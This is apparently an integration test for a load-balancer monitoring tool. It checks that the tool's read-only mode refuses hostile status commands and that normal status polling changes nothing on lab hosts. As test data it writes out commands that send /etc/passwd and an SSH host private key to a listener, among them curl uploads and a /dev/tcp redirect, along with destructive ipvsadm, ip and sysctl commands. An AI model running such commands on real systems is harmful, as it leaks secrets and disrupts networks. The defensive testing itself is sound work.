// Read-only against the real lab. A profile whose status commands try to upload files to a listener on
// the station, or write them, is refused when it loads (exit 2, file:line:col, nothing run). Hostile
// argv that reach the read-only transport at run time are refused there. And real `status` and the wall
// on the lab profile change nothing: file hashes and times under /etc/keepalived, /etc/sysctl.d and the
// dump folder on every host and `ipvsadm -S -n` on the directors are the same before and after, no lock
// or other new file appears in the dump folder (keepalived's own dump files, which a dump request
// makes keepalived rewrite, aside), and the listener receives no connection.
import {execFileSync, spawnSync} from 'node:child_process';
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import net from 'node:net';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {SshPool} from '../../src/transport/ssh-pool.js';
import {createClusterTransport} from '../../src/transport/cluster-transport.js';
import {ReadOnlyTransport} from '../../src/transport/read-only.js';
import {TransportError} from '../../src/transport/types.js';
import {directorSnapshotCommand} from '../../src/probes/director-snapshot.js';
import {ClusterStore} from '../../src/cluster/store.js';
import {ClusterPoller} from '../../src/cluster/poller.js';
import type {Profile} from '../../src/profile/model.js';
import {CLI, LAB_PROFILE, ROOT, labProfile} from '../helpers/lab.js';
import {waitFor} from '../helpers/wait-for.js';

const {profile} = labProfile();
const pool = new SshPool(profile.hosts);
const DIRECTORS = profile.hosts.filter((h) => h.role === 'director').map((h) => h.name);
const STATION = profile.lab!.operatorAddress;
const DUMP_DIR = profile.keepalived.dumpDir;
/** Files keepalived itself writes when asked for a dump (the only thing a status read asks of a host). */
const KEEPALIVED_DUMPS = ['keepalived.json', 'keepalived.data', 'keepalived.stats'];
const WALL = 'lvsdeck-ro-wall';

/** Every file, link and folder below the watched folders with type, size, mtime and content hash; then the IPVS rules. */
const NOT_DUMPS = KEEPALIVED_DUMPS.map((f) => `! -name ${f}`).join(' ');
const FINGERPRINT = [
	'dirs="/etc/keepalived /etc/sysctl.d $1"',
	`for d in $dirs; do find "$d" -xdev -mindepth 1 ${NOT_DUMPS} -printf '%p %y %s %T@\\n'; done | sort`,
	`for d in $dirs; do find "$d" -xdev -mindepth 1 -type f ${NOT_DUMPS} -exec sha256sum {} +; done | sort`,
	'echo @@names; ls -A "$1"',
	'if [ "$2" = director ]; then echo @@ipvs; ipvsadm -S -n; fi',
].join('\n');

async function fingerprints(): Promise<Record<string, string>> {
	const out: Record<string, string> = {};
	for (const h of profile.hosts) {
		const r = await pool.exec(h.name, ['sh', '-c', FINGERPRINT, 'fingerprint', DUMP_DIR, h.role]);
		expect(r.code, `${h.name}: ${r.stderr}`).toBe(0);
		out[h.name] = r.stdout;
	}
	return out;
}

const dumpNames = (fp: string) => fp.split('@@names\n')[1]!.split('@@ipvs')[0]!.split('\n').filter((n) => n !== '');

/** A TCP listener on the station: any upload or request a hostile command manages to send lands here. */
const received: string[] = [];
const sockets = new Set<net.Socket>();
const listener = net.createServer((socket) => {
	sockets.add(socket);
	socket.on('close', () => sockets.delete(socket));
	received.push(`${socket.remoteAddress}:${socket.remotePort}`);
	socket.end('HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n');
});
let port = 0;
let before: Record<string, string> = {};
const tmp = mkdtempSync(path.join(tmpdir(), 'lvsdeck-ro-hostile-'));

beforeAll(async () => {
	await new Promise<void>((resolve, reject) => {
		listener.once('error', reject);
		listener.listen(0, STATION, () => resolve());
	});
	port = (listener.address() as net.AddressInfo).port;
	// what every host looks like before anything in this file runs
	before = await fingerprints();
	for (const d of DIRECTORS) expect(before[d]).toContain('-A -t 192.168.67.100:80');
});

afterAll(async () => {
	spawnSync('tmux', ['kill-session', '-t', WALL]);
	for (const s of sockets) s.destroy();
	await new Promise((r) => listener.close(r));
	await pool.close();
	rmSync(tmp, {recursive: true, force: true});
});

/** lab.yaml with hostile status commands on rs1, rs2 and client1, written with absolute key paths. */
function hostileProfile(): {file: string; firstLine: number; firstCol: number} {
	const url = `http://${STATION}:${port}/`;
	const lines = readFileSync(LAB_PROFILE, 'utf8').replaceAll('../.lab/', `${ROOT}/.lab/`).split('\n');
	const hostile: Record<string, string> = {
		rs1: `curl -T /etc/passwd ${url}`,
		rs2: `curl --data-bin @/etc/ssh/ssh_host_ed25519_key ${url}`,
	};
	let first = {line: 0, col: 0};
	for (const [host, command] of Object.entries(hostile)) {
		const at = lines.findIndex((l) => l.trim() === `${host}:`);
		const i = lines.findIndex((l, n) => n > at && l.includes('service:'));
		lines[i] = lines[i]!.replace(/status: [^}]+/, `status: ${command}`);
		if (first.line === 0) first = {line: i + 1, col: lines[i]!.indexOf(command) + 1};
	}
	// the client gets a service whose status writes a file and talks telnet to the listener
	const client = lines.findIndex((l) => l.trim() === 'client1:');
	lines.splice(client + 3, 0, `    service: {name: x, start: 'true', stop: 'true', status: curl -o /tmp/lvsdeck-pwned telnet://${STATION}:${port}}`);
	const file = path.join(tmp, 'hostile.yaml');
	writeFileSync(file, lines.join('\n'));
	return {file, firstLine: first.line, firstCol: first.col};
}

describe('read-only against hostile commands on the lab', () => {
	it('the listener hears a host that really sends to it (so silence below means something)', async () => {
		const r = await pool.exec('rs1', ['curl', '-s', '-m', '5', `http://${STATION}:${port}/control`]);
		expect(r.code).toBe(0);
		await waitFor(async () => received.length, (n) => n === 1, {timeoutMs: 5000, what: 'the control connection'});
		received.length = 0;
	});

	it('status and the wall refuse the hostile profile at load: exit 2, one located line, nothing run', () => {
		const {file, firstLine, firstCol} = hostileProfile();
		for (const command of ['status', 'wall']) {
			const r = spawnSync(process.execPath, [CLI, command, '--profile', file], {encoding: 'utf8', timeout: 60_000});
			expect(r.status, r.stderr).toBe(2);
			expect(r.stdout).toBe('');
			expect(r.stderr).toBe(
				`lvsdeck: ${file}:${firstLine}:${firstCol}: hosts.rs1.service.status: read-only mode would refuse "curl -T /etc/passwd http://${STATION}:${port}/": option -T is not allowed for curl (and 2 more errors)\n`,
			);
		}
		const console = spawnSync(process.execPath, [CLI, 'console', '--read-only', '--profile', file], {encoding: 'utf8', timeout: 60_000});
		expect(console.status).toBe(2);
		expect(console.stderr).toContain('hosts.rs1.service.status: read-only mode would refuse');
		expect(received).toEqual([]);
	});

	it('hostile argv reaching the read-only transport at run time are refused with the reason, on real hosts', async () => {
		const t = createClusterTransport(profile, {readOnly: true});
		const url = `http://${STATION}:${port}/`;
		const attempts: Array<[string, readonly string[], string]> = [
			['rs1', ['curl', '-T', '/etc/passwd', url], 'option -T is not allowed for curl'],
			['rs1', ['curl', '--upload-f', '/etc/passwd', url], 'option --upload-f is not allowed for curl'],
			['rs1', ['curl', '-sd@/etc/passwd', url], 'option -sd@/etc/passwd is not allowed for curl'],
			['rs2', ['curl', '--data-binary=@/etc/passwd', url], 'is not allowed for curl'],
			['rs2', ['curl', '-s', `telnet://${STATION}:${port}`], 'is not an http:// or https:// URL'],
			['rs2', ['curl', '-o', '/etc/keepalived/pwned', url], 'is not one of /dev/null'],
			['client1', ['env', 'curl', '-T', '/etc/passwd', url], 'env runs other programs'],
			['client1', ['busybox', 'wget', '--post-file=/etc/passwd', url], 'busybox runs other programs'],
			['dir1', ['ipvsadm', '-C'], 'option -C is not allowed for ipvsadm'],
			['dir1', ['sudo', '-n', '--', 'ipvsadm', '-Z'], 'option -Z is not allowed for ipvsadm'],
			['dir1', ['/tmp/x/ipvsadm', '-Ln'], 'is not a bare name or in'],
			['dir1', ['sh', '-c', `cat /etc/passwd > /dev/tcp/${STATION}/${port}`], "not one of lvsdeck's own read-only scripts"],
			['dir1', directorSnapshotCommand(profile.keepalived.configPath, {kind: 'json', pidFile: profile.keepalived.pidFile, dumpDir: '/etc/../etc/keepalived', signal: 36}), 'argument 4 of lvsdeck-probe'],
			['dir2', ['sysctl', '-w', 'net.ipv4.ip_forward=0'], 'option -w is not allowed for sysctl'],
			['dir2', ['ip', 'addr', 'flush', 'dev', 'eth0'], 'ip addr accepts only show, list, not flush'],
			['dir2', profile.keepalived.stop, 'systemctl accepts only'],
		];
		try {
			for (const [host, argv, reason] of attempts) {
				const error = await t.exec(host, argv).then(
					() => undefined,
					(e: unknown) => e,
				);
				expect(error, argv.join(' ')).toBeInstanceOf(TransportError);
				expect((error as TransportError).kind).toBe('read-only');
				expect((error as TransportError).message).toMatch(new RegExp(`^read-only mode: refused ".+" on ${host}: `));
				expect((error as TransportError).message).toContain(reason);
			}
			// the same transport does reach the hosts with what is allowed
			const rules = await t.exec('dir1', ['ipvsadm', '-S', '-n']);
			expect(rules.code).toBe(0);
			expect(rules.stdout).toContain('-A -t 192.168.67.100:80');
		} finally {
			await t.close();
		}
	});

	it('a profile built in code (no load check) still gets its hostile status refused by the transport while the rest polls', async () => {
		const url = `http://${STATION}:${port}/`;
		const evil: Profile = {
			...profile,
			hosts: profile.hosts.map((h) => (h.name === 'rs1' ? {...h, service: {...h.service!, status: ['curl', '--upload-file', '/etc/passwd', url]}} : h)),
		};
		// wrapped by hand, as a careless caller would, so only the transport's own check stands in the way
		const t = new ReadOnlyTransport(createClusterTransport(evil));
		const store = new ClusterStore(evil);
		const poller = new ClusterPoller(evil, t, store, {events: false});
		try {
			await poller.pollOnce();
		} finally {
			poller.stop();
			await t.close();
		}
		const host = (name: string) => store.getState().hosts.find((h) => h.name === name)!;
		const rs1 = host('rs1');
		expect(rs1.reachable).toBe(true);
		expect(rs1.realServer?.serviceActive).toBeUndefined();
		expect(host('rs2').realServer?.serviceActive).toBe(true);
		expect(host('dir1').director?.vrrp?.length).toBe(1);
		expect(received).toEqual([]);
	});

	it('real status and the wall on the lab profile change nothing on any host and send nothing', async () => {
		for (let i = 0; i < 2; i++) {
			const r = spawnSync(process.execPath, [CLI, 'status', '--profile', LAB_PROFILE, '--json'], {encoding: 'utf8', timeout: 60_000});
			expect(r.status, r.stderr).toBe(0);
			expect((JSON.parse(r.stdout) as {healthy: boolean}).healthy).toBe(true);
		}
		spawnSync('tmux', ['kill-session', '-t', WALL]);
		execFileSync('tmux', ['new-session', '-d', '-s', WALL, '-x', '120', '-y', '32', `${process.execPath} ${CLI} wall --profile ${LAB_PROFILE} --interval 500`]);
		const screen = () => execFileSync('tmux', ['capture-pane', '-p', '-t', WALL], {encoding: 'utf8'});
		const clock = (s: string) => /lvsdeck wall · \S+ · (\d\d):(\d\d):(\d\d)/.exec(s)?.slice(1).map(Number);
		const seconds = (c: number[]) => c[0]! * 3600 + c[1]! * 60 + c[2]!;
		const first = await waitFor(async () => screen(), (s) => s.includes('192.168.67.100') && s.includes('is on') && clock(s) !== undefined, {timeoutMs: 30_000, what: 'the wall showing the VIP'});
		const start = seconds(clock(first.value)!);
		// a few polls (every 500 ms) go by while the wall runs
		await waitFor(async () => screen(), (s) => (seconds(clock(s) ?? [0, 0, 0]) - start + 86_400) % 86_400 >= 3, {timeoutMs: 20_000, what: 'three seconds of wall polls'});
		expect(screen()).toContain('read-only');
		execFileSync('tmux', ['send-keys', '-t', WALL, 'C-c']);
		await waitFor(async () => spawnSync('tmux', ['has-session', '-t', WALL]).status, (code) => code !== 0, {timeoutMs: 10_000, what: 'the wall to quit'});

		const after = await fingerprints();
		for (const h of profile.hosts) {
			const [files, rest] = [after[h.name]!.split('@@names')[0], after[h.name]!.split('@@names')[1]];
			expect(files, `${h.name}: files under /etc/keepalived, /etc/sysctl.d, ${DUMP_DIR}`).toBe(before[h.name]!.split('@@names')[0]);
			expect(rest?.split('@@ipvs')[1], `${h.name}: ipvsadm -S -n`).toBe(before[h.name]!.split('@@names')[1]?.split('@@ipvs')[1]);
			const added = dumpNames(after[h.name]!).filter((n) => !dumpNames(before[h.name]!).includes(n));
			expect(added.filter((n) => !KEEPALIVED_DUMPS.includes(n)), `${h.name}: new files in ${DUMP_DIR}`).toEqual([]);
			expect(dumpNames(after[h.name]!)).not.toContain('.lvsdeck-dump.lock');
		}
		expect(received).toEqual([]);
	});
});
